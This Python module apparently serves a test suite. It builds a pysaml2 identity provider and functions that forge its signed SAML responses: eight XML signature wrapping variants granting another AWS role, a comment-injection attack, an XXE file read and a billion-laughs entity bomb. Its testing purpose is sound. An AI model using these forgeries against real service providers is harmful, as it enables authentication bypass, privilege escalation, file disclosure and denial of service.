"""Forging SAML responses for tests: a pysaml2 IdP with a fresh RSA key, and the attacks on an SP.

The IdP (:class:`Idp`) signs real responses with ``xmlsec1``. The attack builders take such a
response (XML text, not base64) and return the attacker's edit of it. They work on the text:
pysaml2 writes the whole response on one line with its namespaces declared once on the root, so
an element cut out and pasted elsewhere in the same document keeps its exclusive-C14N form, and a
moved signature still verifies over the element it names (which is what makes wrapping work).

XML signature wrapping (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012;
the recipes of SAML Raider's ``XSWHelpers``): XSW1 and XSW2 wrap a signed *Response*, XSW3 to
XSW8 a signed *Assertion*. In each the element the signature names survives intact somewhere
(so an SP that only asks xmlsec1 "is the element with this ID signed?" says yes) while the
assertion an SP naturally reads (``Response/Assertion``) is the attacker's: it carries the
:class:`Goal`, another Role pair and another RoleSessionName.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from html import escape
from pathlib import Path

from saml2 import xmldsig as ds
from saml2.metadata import create_metadata_string
from saml2.saml import NAMEID_FORMAT_PERSISTENT, NameID
from saml2.server import Server
from saml2.sigver import pre_signature_part

from emustudio.auth.idp import idp_config
from emustudio.auth.keys import write_keypair
from emustudio.auth.saml import AWS_ACS_URL, AWS_AUDIENCE
from emustudio.auth.saml.vocabulary import ATTRIBUTE

IDP_ID = "http://127.0.0.1:9/idp.xml"
ROLE_ARN = "arn:aws:iam::123456789012:role/Studio"
PROVIDER_ARN = "arn:aws:iam::123456789012:saml-provider/Test"
ATTR = ATTRIBUTE
IDENTITY = {
    ATTR + "Role": [f"{PROVIDER_ARN},{ROLE_ARN}"],
    ATTR + "RoleSessionName": ["alice@example.com"],
    ATTR + "SessionDuration": ["3600"],
    ATTR + "PrincipalTag:team": ["data"],
    ATTR + "TransitiveTagKeys": ["team"],
    ATTR + "SourceIdentity": ["alice"],
}
ASSERTION_TAG = re.compile(r"<(\w+):Assertion[ >]")
SIGNATURE = re.compile(r"<(\w+):Signature[ >].*?</\1:Signature>", re.S)
XML_DECLARATION = re.compile(r"^\s*<\?xml[^>]*\?>\s*")
DATE_TIME = re.compile(r'(\w+)="(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?Z)"')


def keypair(directory: Path, name: str) -> tuple[str, str]:
    key_file, cert_file = directory / f"{name}.key", directory / f"{name}.crt"
    write_keypair(key_file, cert_file, name, days=30)
    return str(key_file), str(cert_file)


class Idp:
    """A pysaml2 IdP (entity id :data:`IDP_ID`) that knows AWS as its only SP."""

    def __init__(self, directory: Path, name: str) -> None:
        self.key_file, self.cert_file = keypair(directory, name)
        self.config = idp_config(
            IDP_ID,
            Path(self.key_file),
            Path(self.cert_file),
            sso_url="http://127.0.0.1:9/sso",
            xmlsec_binary="/usr/bin/xmlsec1",
        )
        self.server = Server(config=self.config)

    def metadata(self) -> str:
        return str(create_metadata_string(None, config=self.config, valid=24).decode())

    def response(
        self,
        *,
        name_id: str = "alice@example.com",
        in_response_to: str | None = None,
        destination: str = AWS_ACS_URL,
        sign_response: bool = False,
        sign_assertion: bool = True,
        identity: dict[str, list[str]] | None = None,
    ) -> str:
        """The response XML (not base64)."""
        resp = self.server.create_authn_response(
            identity or IDENTITY,
            in_response_to=in_response_to,
            destination=destination,
            sp_entity_id=AWS_AUDIENCE,
            name_id=NameID(format=NAMEID_FORMAT_PERSISTENT, text=name_id),
            userid=name_id,
            authn={
                "class_ref": "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
            },
            sign_response=sign_response,
            sign_assertion=sign_assertion,
        )
        return str(resp)

    def sign_assertion(self, xml: str) -> str:
        """(Re)sign the assertion of ``xml`` after a test edited it."""
        xml = strip_signatures(xml)
        match = ASSERTION_TAG.search(xml)
        assert match
        prefix = match.group(1)
        start = match.start()
        assertion_id = re.search(r'ID="([^"]+)"', xml[start:])
        assert assertion_id
        aid = assertion_id.group(1)
        template = str(
            pre_signature_part(
                ident=aid,
                public_key="".join(Path(self.cert_file).read_text().splitlines()[1:-1]),
                sign_alg=ds.SIG_RSA_SHA256,
                digest_alg=ds.DIGEST_SHA256,
            )
        )
        issuer_end = xml.index(f"</{prefix}:Issuer>", start) + len(f"</{prefix}:Issuer>")
        xml = xml[:issuer_end] + template + xml[issuer_end:]
        return str(
            self.server.sec.sign_statement(
                xml, node_name="urn:oasis:names:tc:SAML:2.0:assertion:Assertion", node_id=aid
            )
        )


def strip_signatures(xml: str) -> str:
    return SIGNATURE.sub("", xml)


def b64(xml: str) -> str:
    return base64.b64encode(xml.encode()).decode()


def assertion_span(xml: str) -> tuple[int, int]:
    """Where the first Assertion starts and where the first Assertion end tag ends."""
    match = ASSERTION_TAG.search(xml)
    assert match
    end_tag = f"</{match.group(1)}:Assertion>"
    return match.start(), xml.index(end_tag) + len(end_tag)


def bare(xml: str) -> str:
    """Without the ``<?xml ...?>`` declaration (to paste the document into another)."""
    return XML_DECLARATION.sub("", xml)


def shift_times(xml: str, delta: timedelta) -> str:
    """Every ``xs:dateTime`` attribute moved by ``delta`` (re-sign afterwards)."""

    def shift(match: re.Match[str]) -> str:
        moved = datetime.fromisoformat(match.group(2)) + delta
        return f'{match.group(1)}="{moved.strftime("%Y-%m-%dT%H:%M:%SZ")}"'

    return DATE_TIME.sub(shift, xml)


def set_attribute(xml: str, name: str, values: list[str]) -> str:
    """The values of the first ``Attribute Name=name`` replaced (its value tags kept)."""
    attribute = re.compile(
        rf'(<(\w+):Attribute Name="{re.escape(name)}"[^>]*>)(.*?)(</\2:Attribute>)', re.S
    )
    match = attribute.search(xml)
    assert match, f"no {name} attribute"
    value_tag = re.match(r"<(\w+):AttributeValue[^>]*>", match.group(3))
    assert value_tag
    close = f"</{value_tag.group(1)}:AttributeValue>"
    inner = "".join(f"{value_tag.group(0)}{escape(v, quote=False)}{close}" for v in values)
    return xml[: match.start(3)] + inner + xml[match.end(3) :]


def inject_comment(xml: str, value: str, at: int) -> str:
    """Every text node ``value`` split by an empty comment after ``at`` characters.

    Exclusive C14N drops comments, so this leaves a signature valid: the 2018 comment attack
    (CVE-2017-11427 and siblings) on SPs that read only the first text node.
    """
    split = f">{value[:at]}<!---->{value[at:]}<"
    assert f">{value}<" in xml
    return xml.replace(f">{value}<", split)


def xxe(xml: str, path: Path, value: str = "alice@example.com") -> str:
    """A DOCTYPE declaring an external entity (``file://path``) used where ``value`` was."""
    dtd = f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{path}">]>'
    return dtd + bare(xml).replace(f">{value}<", ">&xxe;<")


def billion_laughs(xml: str, value: str = "alice@example.com") -> str:
    """The entity-expansion bomb: ten levels of ten, 10^10 ``lol``\\ s where ``value`` was."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    dtd = f"<!DOCTYPE r [{''.join(entities)}]>"
    return dtd + bare(xml).replace(f">{value}<", ">&lol9;<")


# --- XML signature wrapping -------------------------------------------------------------------


@dataclass(frozen=True)
class Goal:
    """What the attacker wants the SP to read: another Role pair, another session name."""

    role: str
    """The ``Role`` attribute value, ``"<role ARN>,<provider ARN>"``."""
    session_name: str
    name_id: str | None = None


def evil_assertion(assertion: str, goal: Goal) -> str:
    """The signed ``assertion`` rewritten to the attacker's ``goal``: unsigned, a new ID."""
    evil = strip_signatures(assertion)
    evil = re.sub(r'ID="([^"]+)"', r'ID="evil-\1"', evil, count=1)
    evil = set_attribute(evil, ATTR + "Role", [goal.role])
    evil = set_attribute(evil, ATTR + "RoleSessionName", [goal.session_name])
    if goal.name_id is not None:
        evil = re.sub(
            r"(<(\w+):NameID[^>]*>)[^<]*(</\2:NameID>)",
            lambda m: m.group(1) + escape(goal.name_id or "", quote=False) + m.group(3),
            evil,
            count=1,
        )
    return evil


def _signature(xml: str) -> tuple[int, int, str]:
    """(start, end, ds prefix) of the first ``ds:Signature`` in ``xml``."""
    match = SIGNATURE.search(xml)
    assert match, "not signed"
    return match.start(), match.end(), match.group(1)


def _append_child(element: str, child: str) -> str:
    """``child`` added as the last child of ``element`` (a complete element's text)."""
    closing = element.rindex("</")
    return element[:closing] + child + element[closing:]


def _with_signature(evil: str, signature: str) -> str:
    """``signature`` put where an assertion's signature goes (right after its Issuer)."""
    issuer = re.search(r"</\w+:Issuer>", evil)
    assert issuer
    return evil[: issuer.end()] + signature + evil[issuer.end() :]


def _wrap_response(xml: str, goal: Goal, *, inside_signature: bool) -> str:
    xml = bare(xml)
    first = ASSERTION_TAG.search(xml)
    start, end, _ = _signature(xml)
    assert first and start < first.start(), "XSW1 and XSW2 need a signed Response"
    signature = xml[start:end]
    original = xml[:start] + xml[end:]  # the signed Response, its signature moved out
    a_start, a_end = assertion_span(xml)
    evil_tail = xml[end:a_start] + evil_assertion(xml[a_start:a_end], goal) + xml[a_end:]
    moved = _append_child(signature, original) if inside_signature else original + signature
    forged = xml[:start] + moved + evil_tail
    return re.sub(r'ID="([^"]+)"', r'ID="evil-\1"', forged, count=1)  # the root's ID


def xsw1(xml: str, goal: Goal) -> str:
    """The evil Response is the root; the signed original goes inside its Signature."""
    return _wrap_response(xml, goal, inside_signature=True)


def xsw2(xml: str, goal: Goal) -> str:
    """The evil Response is the root; the signed original goes right before the Signature."""
    return _wrap_response(xml, goal, inside_signature=False)


def _assertion_parts(xml: str) -> tuple[str, str, str, str]:
    """(before, signed assertion, after, the assertion's Signature) of an assertion-signed one."""
    xml = bare(xml)
    start, end = assertion_span(xml)
    assertion = xml[start:end]
    s_start, s_end, _ = _signature(assertion)
    return xml[:start], assertion, xml[end:], assertion[s_start:s_end]


def xsw3(xml: str, goal: Goal) -> str:
    """An evil Assertion inserted before the signed one."""
    before, signed, after, _ = _assertion_parts(xml)
    return before + evil_assertion(signed, goal) + signed + after


def xsw4(xml: str, goal: Goal) -> str:
    """The evil Assertion wraps the signed one (its last child)."""
    before, signed, after, _ = _assertion_parts(xml)
    return before + _append_child(evil_assertion(signed, goal), signed) + after


def xsw5(xml: str, goal: Goal) -> str:
    """The evil Assertion keeps the signature; an unsigned copy of the original goes last."""
    before, signed, after, signature = _assertion_parts(xml)
    evil = _with_signature(evil_assertion(signed, goal), signature)
    closing = after.rindex("</")
    return before + evil + after[:closing] + strip_signatures(signed) + after[closing:]


def xsw6(xml: str, goal: Goal) -> str:
    """The evil Assertion keeps the signature; the unsigned original goes inside it."""
    before, signed, after, signature = _assertion_parts(xml)
    moved = _append_child(signature, strip_signatures(signed))
    return before + _with_signature(evil_assertion(signed, goal), moved) + after


def xsw7(xml: str, goal: Goal) -> str:
    """The signed Assertion hidden in a ``samlp:Extensions`` (any content is schema-valid
    there), the evil one in its place (as the paper draws it; SAML Raider swaps the two)."""
    before, signed, after, _ = _assertion_parts(xml)
    root = re.match(r"<(\w+):Response[ >]", before)
    assert root
    p = root.group(1)
    extensions = f"<{p}:Extensions>{signed}</{p}:Extensions>"
    # Extensions come after the Response's Issuer (and Signature), before Status.
    status = before.index(f"<{p}:Status")
    return before[:status] + extensions + before[status:] + evil_assertion(signed, goal) + after


def xsw8(xml: str, goal: Goal) -> str:
    """The evil Assertion keeps the signature; the unsigned original goes in its ds:Object."""
    before, signed, after, signature = _assertion_parts(xml)
    prefix = _signature(signature)[2]
    obj = f"<{prefix}:Object>{strip_signatures(signed)}</{prefix}:Object>"
    moved = _append_child(signature, obj)
    return before + _with_signature(evil_assertion(signed, goal), moved) + after


XSW: dict[str, Callable[[str, Goal], str]] = {
    "XSW1": xsw1,
    "XSW2": xsw2,
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}
RESPONSE_SIGNED = frozenset({"XSW1", "XSW2"})
"""The variants that wrap a signed Response (the others wrap a signed Assertion)."""
